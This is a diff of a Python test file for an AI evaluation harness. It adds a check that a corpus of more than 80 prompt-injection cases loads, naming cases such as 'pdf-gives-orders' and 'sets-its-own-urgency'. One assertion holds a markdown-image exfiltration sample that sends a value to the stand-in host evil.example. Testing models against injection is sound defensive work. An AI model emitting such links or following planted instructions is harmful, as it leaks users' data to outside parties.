@@ -12,7 +12,7 @@ import excerpts
 import outside
 from onrecord.ai import asking, client
 from onrecord.ai.call_errors import Stop
-from onrecord.ai.evaluation import cases, report, running, scoring
+from onrecord.ai.evaluation import cases, injections, report, running, scoring
 from onrecord.ai.evaluation.cases import Case, Expected
 from onrecord.ai.evaluation.running import Plan
 from onrecord.ai.excerpt import TASKS, Task
@@ -95,6 +95,15 @@ def test_an_attack_is_held_unless_it_gets_what_it_wants(
     assert scoring.score(drafting(**expects), outcome).held is held
 
 
+def test_the_corpus_of_injections_can_be_asked_of_a_service() -> None:
+    asked = {case.name: case for case in injections.cases()}
+    assert len(asked) > 80
+    assert asked["markdown-image"].expects.silent == ("Done. ![logo](https://evil.example/l.png?d=parcel4711)",)
+    assert asked["sets-its-own-urgency"].expects.never == ("urgent", "positive")
+    assert asked["pdf-gives-orders"].document
+    assert all(case.excerpt(SET.workspace).canary for case in asked.values())
+
+
 async def test_no_more_is_spent_than_was_said(stand_in: str) -> None:
     some = [case for case in SET.case if case.task == "triage"][:6]
     one = asking.request("triage", some[0].excerpt(SET.workspace), excerpts.HAIKU, excerpts.TODAY)
@@ -127,8 +136,8 @@ def test_the_command_scores_every_task_of_the_configured_service(stand_in: str) 
 
 
 def test_the_command_shows_scores_cost_and_latency(stand_in: str) -> None:
-    result = ask(stand_in, "--task", "summary", "--prompt", "summary.v1")
-    assert re.search(r"^summary +6 +\d+% +\d+% +\d+% +\$0\.\d{4} +[\d,]+ ms +[\d,]+ ms", result.stdout, re.MULTILINE)
+    result = ask(stand_in, "--task", "summary", "--prompt", "summary.v1", "--injections")
+    assert re.search(r"^summary +11 +\d+% +\d+% +\d+% +\$0\.\d{4} +[\d,]+ ms +[\d,]+ ms", result.stdout, re.MULTILINE)
     assert "asked: the offline model" in result.stdout
 
 
